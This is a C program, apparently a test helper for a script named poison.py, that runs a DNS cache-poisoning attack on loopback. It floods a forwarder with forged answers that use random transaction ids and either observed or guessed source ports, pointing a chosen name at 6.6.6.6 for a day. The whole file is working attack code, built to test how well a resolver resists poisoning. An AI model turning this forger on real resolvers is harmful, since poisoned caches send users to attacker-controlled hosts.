/*
 * Forges answers to a forwarder's questions, in the dark: for poison.py, on the loopback interface.
 *
 *   poison PORT NAME TYPE SECONDS RATE MODE FIRST LAST
 *
 * Takes the upstream's place on 127.0.0.1:PORT, where questions arrive that it does not look into, but for
 * the port they came from in mode "known" (as one who has found ports out by other means): "blind"
 * takes ports from FIRST to LAST by chance. To those it sends answers for NAME with ids by chance, RATE of
 * them a second, each with the address 6.6.6.6 for a day. Prints how many it sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64u
#define KNOWN 256u /* ports remembered, the newest */

struct forger {
	int fd;
	uint16_t port[KNOWN];
	unsigned ports, newest, first, last;
	int known;
	uint8_t answer[512];
	size_t len;
};

static uint64_t now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

static uint32_t chance(void)
{
	static uint32_t store[4096];
	static unsigned left;
	if (!left) {
		if (getrandom(store, sizeof(store), 0) != sizeof(store))
			exit(1);
		left = 4096;
	}
	return store[--left];
}

static void make_answer(struct forger *f, const char *name, unsigned type)
{
	static const uint8_t head[] = {0, 0, 0x85, 0x80, 0, 1, 0, 1, 0, 0, 0, 0};
	static const uint8_t record[] = {0xc0, 12, 0, 0, 0, 1, 0, 1, 0x51, 0x80, 0, 4, 6, 6, 6, 6};
	uint8_t *at = f->answer + sizeof(head);
	memcpy(f->answer, head, sizeof(head));
	while (*name) {
		size_t n = strcspn(name, ".");
		*at++ = (uint8_t)n;
		memcpy(at, name, n);
		at += n;
		name += n + (name[n] == '.');
	}
	*at++ = 0;
	*at++ = 0;
	*at++ = (uint8_t)type;
	*at++ = 0;
	*at++ = 1;
	memcpy(at, record, sizeof(record));
	at[3] = (uint8_t)type;
	f->len = (size_t)(at + sizeof(record) - f->answer);
}

/* Where questions came from. */
static void look(struct forger *f)
{
	uint8_t question[512];
	struct sockaddr_in from;
	for (;;) {
		socklen_t len = sizeof(from);
		if (recvfrom(f->fd, question, sizeof(question), MSG_DONTWAIT,
			     (struct sockaddr *)&from, &len) < 0)
			return;
		unsigned i = 0;
		while (i < f->ports && f->port[i] != from.sin_port)
			i++;
		if (i < f->ports)
			continue;
		f->port[f->newest++ % KNOWN] = from.sin_port;
		f->ports += f->ports < KNOWN;
	}
}

static void send_batch(const struct forger *f)
{
	static uint8_t bytes[BATCH][512];
	struct mmsghdr message[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in to[BATCH];
	memset(message, 0, sizeof(message));
	for (unsigned i = 0; i < BATCH; i++) {
		uint32_t r = chance();
		memcpy(bytes[i], f->answer, f->len);
		bytes[i][0] = (uint8_t)r;
		bytes[i][1] = (uint8_t)(r >> 8);
		to[i] = (struct sockaddr_in){.sin_family = AF_INET,
					     .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
		to[i].sin_port = f->known ? f->port[(r >> 16) % f->ports]
					  : htons((uint16_t)(f->first +
							     chance() % (f->last - f->first + 1)));
		iov[i] = (struct iovec){bytes[i], f->len};
		message[i].msg_hdr = (struct msghdr){.msg_name = &to[i],
						     .msg_namelen = sizeof(to[i]),
						     .msg_iov = &iov[i],
						     .msg_iovlen = 1};
	}
	/* What a closed port sends back is an error of the next call: sent again it goes. */
	for (unsigned done = 0; done < BATCH;) {
		int n = sendmmsg(f->fd, message + done, BATCH - done, 0);
		done += n > 0 ? (unsigned)n : 1;
	}
}

int main(int argc, char **argv)
{
	struct forger f = {0};
	struct sockaddr_in here = {.sin_family = AF_INET,
				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	if (argc != 9)
		return 2;
	uint64_t seconds = strtoull(argv[4], NULL, 10), rate = strtoull(argv[5], NULL, 10);
	f.known = !strcmp(argv[6], "known");
	f.first = (unsigned)atoi(argv[7]);
	f.last = (unsigned)atoi(argv[8]);
	make_answer(&f, argv[2], (unsigned)atoi(argv[3]));
	f.fd = socket(AF_INET, SOCK_DGRAM, 0);
	here.sin_port = htons((uint16_t)atoi(argv[1]));
	if (bind(f.fd, (struct sockaddr *)&here, sizeof(here))) {
		perror("bind");
		return 1;
	}
	puts("ready");
	fflush(stdout);
	uint64_t begin = now(), end = begin + seconds * 1000000000u, sent = 0;
	for (uint64_t t = begin; t < end; t = now()) {
		look(&f);
		if ((f.known && !f.ports) || sent > (t - begin) / 1000 * rate / 1000000) {
			nanosleep(&(struct timespec){0, 200000}, NULL);
			continue;
		}
		send_batch(&f);
		sent += BATCH;
	}
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}
